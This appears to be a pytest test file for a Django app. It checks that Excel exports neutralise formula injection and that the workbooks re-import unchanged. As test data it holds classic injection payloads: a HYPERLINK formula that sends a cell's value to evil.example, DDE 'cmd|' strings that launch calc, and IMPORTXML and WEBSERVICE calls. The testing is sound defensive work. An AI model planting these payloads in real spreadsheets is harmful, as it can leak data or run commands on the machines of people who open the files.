"""No formula injection in any Excel file we hand out, and exports still import back exactly.

Hostile names (the classic payloads: =HYPERLINK, +cmd|, -2+3, @SUM, a leading apostrophe) are put
into every kind of record of the access table's world; then every download of the access table
that is a workbook is opened, and no cell may be a formula except the score grid's own totals.
"""

import re
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from blocs.models import Bloc, Criterion, Membership, Score
from blocs.ratings_xlsx import export_ratings, ratings_import
from blocs.registry_xlsx import ImportResult, Tally, export_registry, registry_import
from tests.test_access import CASES
from units.models import AnnualRating, Unit
from units.xlsx import FORMULA_START, safe_cell, unquote

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

HOSTILE = {
    "unit_a1": '=HYPERLINK("http://evil.example/?d="&B5,"Bấm vào đây")',
    "unit_a2": "+cmd|' /C calc'!A0",
    "unit_a3": "-2+3+cmd|' /C calc'!A0",
    "unit_b1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit_b2": "'=1+1 Ban Dân vận",
}
HOSTILE_BLOC = '=IMPORTXML("http://evil.example","//a") Khối'
HOSTILE_TITLE = '=WEBSERVICE("http://evil.example")'
HOSTILE_NOTE = "-1+1 ghi chú"
# The score grid's totals are formulas on purpose: only cell references, SUM, MIN and numbers.
OWN_FORMULA = re.compile(r"=[A-Z0-9(),.+\-]*")  # no quotes, spaces, "|" or "!": nothing a payload needs


def make_hostile(w) -> None:
    for key, name in HOSTILE.items():
        Unit.objects.filter(pk=w[key].pk).update(name=name, leader_name=name, address=name)
    Bloc.objects.filter(pk=w["bloc_a"].pk).update(name=HOSTILE_BLOC, description="@cmd\nDòng hai")
    Criterion.objects.filter(table__bloc=w["bloc_a"]).update(title=HOSTILE_TITLE)
    Membership.objects.filter(unit=w["unit_a3"]).update(note=HOSTILE_NOTE)
    for key in HOSTILE:
        rating = {"rating": "HTTNV", "note": HOSTILE_NOTE}
        AnnualRating.objects.update_or_create(unit=w[key], year=2024, defaults=rating)


def formula_cells(data: bytes) -> list[tuple[str, str, str]]:
    book = load_workbook(BytesIO(data))
    return [
        (ws.title, cell.coordinate, str(cell.value))
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


def text_cells(data: bytes) -> list[str]:
    book = load_workbook(BytesIO(data))
    cells = (cell for ws in book.worksheets for row in ws.iter_rows() for cell in row)
    return [cell.value for cell in cells if cell.data_type == "s" and isinstance(cell.value, str)]


def _xlsx_downloads():
    for name, kwargs, method, _data, expected in CASES:
        if method == "get" and expected.get("board") == 200:
            yield pytest.param(name, kwargs, id=name)


@pytest.mark.parametrize(("name", "kwargs"), list(_xlsx_downloads()))
def test_no_download_carries_a_formula_from_user_text(name, kwargs, access_world, board, client_for):
    make_hostile(access_world)
    url = reverse(name, kwargs=kwargs(access_world) if kwargs else None)
    response = client_for(board).get(url)
    assert response.status_code == 200
    if response["Content-Type"] != XLSX:
        return
    for sheet, where, formula in formula_cells(response.content):
        assert OWN_FORMULA.fullmatch(formula), f"{url}: {sheet}!{where} is a formula: {formula}"
    for text in text_cells(response.content):
        assert not text.startswith(FORMULA_START) or text.startswith("'"), text


def test_the_access_table_has_workbook_downloads():
    names = {case.values[0] for case in _xlsx_downloads()}
    assert {"blocs:registry_export", "blocs:ratings_export", "blocs:score_xlsx"} <= names


def test_registry_export_shows_the_text_and_imports_back_unchanged(access_world):
    make_hostile(access_world)
    data = export_registry(2025)
    texts = text_cells(data)
    for name in HOSTILE.values():
        assert "'" + name in texts
    assert "'" + HOSTILE_BLOC in texts
    assert registry_import(data=data, year=2025) == ImportResult(
        units=Tally(unchanged=Unit.objects.count()),
        blocs=Tally(unchanged=Bloc.objects.count()),
        memberships={2025: Tally(unchanged=Membership.objects.filter(year=2025).count())},
    )
    assert dict(Unit.objects.filter(pk__in=[access_world[k].pk for k in HOSTILE]).values_list("code", "name")) == {
        access_world[k].code: v for k, v in HOSTILE.items()
    }


def test_ratings_export_imports_back_unchanged(access_world, board):
    make_hostile(access_world)
    data = export_ratings(2024)
    assert "'" + HOSTILE_NOTE in text_cells(data)
    assert "'" + HOSTILE["unit_a1"] in text_cells(data)
    before = list(AnnualRating.objects.order_by("pk").values())
    result = ratings_import(data=data, user=board)
    assert result.errors == []
    assert list(AnnualRating.objects.order_by("pk").values()) == before


def test_score_grid_export_uploads_back_with_nothing_written(access_world, board, client_for):
    make_hostile(access_world)
    client = client_for(board)
    bloc = access_world["bloc_a"]
    data = client.get(reverse("blocs:score_xlsx", kwargs={"pk": bloc.pk, "year": 2025})).content
    assert "'" + HOSTILE_TITLE in text_cells(data)
    assert "'" + HOSTILE["unit_a2"] in text_cells(data)
    scores = list(Score.objects.order_by("pk").values())
    response = client.post(
        reverse("blocs:score_xlsx_upload", kwargs={"pk": bloc.pk, "year": 2025}),
        {"file": SimpleUploadedFile("cham-diem.xlsx", data)},
    )
    assert response.status_code == 302  # accepted: every unit and criterion was recognised
    assert list(Score.objects.order_by("pk").values()) == scores


def test_every_module_that_writes_a_workbook_uses_the_shared_guard():
    root = Path(settings.BASE_DIR)
    writers = [
        path
        for path in root.glob("*/**/*.py")
        if ".venv" not in path.parts and "tests" not in path.parts and "Workbook()" in path.read_text(encoding="utf-8")
    ]
    assert writers  # the scan sees the exports
    unguarded = [
        str(path.relative_to(root))
        for path in writers
        if not re.search(r"\b(safe_cell|protect)\(", path.read_text(encoding="utf-8"))
    ]
    assert unguarded == []


# --- The helper itself -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'trích dẫn", "''trích dẫn"),
        ("Sở Tài chính", "Sở Tài chính"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(text, cell):
    assert safe_cell(text) == cell


def test_numbers_and_blanks_are_left_alone():
    assert [safe_cell(v) for v in (-5, 1.5, None, True)] == [-5, 1.5, None, True]


@given(st.text())
@hsettings(max_examples=300, deadline=None, database=None)
def test_any_text_round_trips_and_never_starts_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unquote(cell) == ILLEGAL_CHARACTERS_RE.sub("", text)
